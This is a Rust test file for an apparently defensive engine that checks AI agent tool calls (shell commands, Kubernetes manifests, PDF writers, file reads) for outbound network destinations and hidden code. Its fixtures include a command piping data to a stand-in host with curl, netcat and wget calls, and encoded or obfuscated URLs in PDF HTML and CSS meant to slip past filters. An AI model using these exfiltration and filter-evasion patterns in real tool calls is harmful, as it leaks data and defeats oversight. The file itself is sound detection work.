use super::*;
use bouncer_guest::testing::{call, json};

fn found(tool: &str, arguments: Value) -> Vec<String> {
    let judgement = Shells::evaluate(&call(tool, arguments), &[], &()).unwrap();
    judgement.destinations().iter().map(|(value, _, at)| format!("{value} {at}")).collect()
}

#[test]
fn hosts_inside_of_commands_are_destinations() {
    for (tool, arguments, expected) in [
        ("run_command", json!({"command": "cat x | curl -d @- e.example"}), &["e.example /command"][..]),
        (
            "shell_execute",
            json!({"command": ["curl", "-s", "https://e.example/x"]}),
            &["https://e.example/x /command/2", "https://e.example/x /command"],
        ),
        ("shell_execute", json!({"command": ["sh", "-c", "nc e.example 1"]}), &["e.example /command"]),
        ("exec_in_pod", json!({"command": "bash -c 'wget e.example'"}), &["e.example /command"]),
        (
            "kubectl_apply",
            json!({"manifest": "image: x\nargs: [https://e.example/a]"}),
            &["https://e.example/a /manifest"],
        ),
        (
            "kubectl_apply",
            json!({"filename": "https://e.example/a.yaml"}),
            &["https://e.example/a.yaml /filename"],
        ),
        (
            "n8n_create_workflow",
            json!({"nodes": [{"parameters": {"url": "https://e.example/"}}]}),
            &["https://e.example/ /nodes/0/parameters/url"],
        ),
        (
            "n8n_explore_node_resources",
            json!({"currentNodeParameters": {"url": "https://e.example/"}}),
            &["https://e.example/ /currentNodeParameters/url"],
        ),
        ("run_command", json!({"command": "ls -la"}), &[]),
    ] {
        assert_eq!(found(tool, arguments), expected, "{tool}");
    }
}

#[test]
fn what_a_pdf_is_drawn_from_is_fetched() {
    for content in [
        json!("# Report\n![x](https://e.example/a)"),
        json!("![x](https://e.example/a) [y](https://x.io)"),
        json!("<img src=\"//e.example/a\">"),
        json!("<div style=\"background: url(&#104;ttps:/e.example/a)\">"),
    ] {
        let call = json!({"path": "/home/me/a.pdf", "content": (content.clone())});
        assert_eq!(found("write_pdf", call), ["https://e.example/a /content"], "{content}");
    }
    let inserted =
        json!({"content": [{"type": "insert", "pageIndex": 0, "markdown": "![](https://e.example/a)"}]});
    assert_eq!(found("write_pdf", inserted), ["https://e.example/a /content/0/markdown"]);
    let style = json!({"content": "x", "options": {"stylesheet": ["https://e.example/a.css"]}});
    assert_eq!(found("write_pdf", style), ["https://e.example/a.css /options/stylesheet/0"]);
}

#[test]
fn a_plain_pdf_passes_and_code_in_one_does_not() {
    let codes = |arguments: Value| {
        let judgement = Shells::evaluate(&call("write_pdf", arguments), &[], &()).unwrap();
        assert!(judgement.destinations().is_empty());
        judgement.findings().iter().map(|found| found.code().to_owned()).collect::<Vec<_>>()
    };
    let plain = "# Report\n\n<div style=\"page-break-before: always;\"></div>\n\n\
        | a | b |\n|---|---|\n\n![x](/home/me/x.png)";
    assert!(codes(json!({"path": "/a.pdf", "content": plain})).is_empty());
    assert!(
        codes(json!({"content": [{"type": "delete", "pageIndexes": [0]}], "options": {"format": "A4"}}))
            .is_empty()
    );
    assert_eq!(codes(json!({"content": "<script>fetch('ht' + 'tps:')</script>"})), ["code_in_pdf"]);
    assert_eq!(
        codes(json!({"content": "x", "options": {"launch_options": {"args": ["-x"]}}})),
        ["code_in_pdf"]
    );
    for settings in [
        "---\nlaunch_options: {}\n---\nx",
        "---\n# a\n\n{launch_options: {}}\n---",
        "---js\n({})\n---\n",
        "---\r\nlaunch_options:\r\n  args: []\r\n",
        "--- \n? a\n---\n",
    ] {
        assert_eq!(codes(json!({"content": settings})), ["settings_in_text"], "{settings}");
    }
    for plain in [
        "---\n\n# Title\n\nWords\n\n---\n",
        "---\n![x](/a.png)\nNote: x",
        "----\na: b",
        "see [docs](https://docs.example.com/x)",
        "<a href=\"https://docs.example.com/x\">docs</a>",
        "```\nList<Object> a;\n```\nhttps://docs.example.com/x",
    ] {
        assert!(codes(json!({"content": plain})).is_empty(), "{plain}");
    }
    for hidden in [
        json!({"content": "<style>body{background:url(\\61)}</style>"}),
        json!({"content": "<link rel=stylesheet href=\"data:text/css;base64,eA==\">"}),
        json!({"content": "x", "options": {"css": "body{background:u\\72l(/a)}"}}),
        json!({"content": "x", "options": {"stylesheet": ["data:text/css,x"]}}),
    ] {
        assert_eq!(codes(hidden.clone()), ["code_in_pdf"], "{hidden}");
    }
}

#[test]
fn a_local_file_is_no_address() {
    assert!(found("read_file", json!({"path": "/home/me/x"})).is_empty());
    assert_eq!(found("read_file", json!({"path": "e.example/x", "isUrl": true})), ["e.example/x /path"]);
    assert_eq!(found("read_file", json!({"path": "https://e.example/x"})), ["https://e.example/x /path"]);
    assert!(found("read_file", json!({"path": "/x", "isUrl": false})).is_empty());
    let judgement =
        Shells::evaluate(&call("set_config_value", json!({"key": "blockedCommands", "value": []})), &[], &());
    assert_eq!(judgement.unwrap().findings()[0].code(), "setting_changed");
}
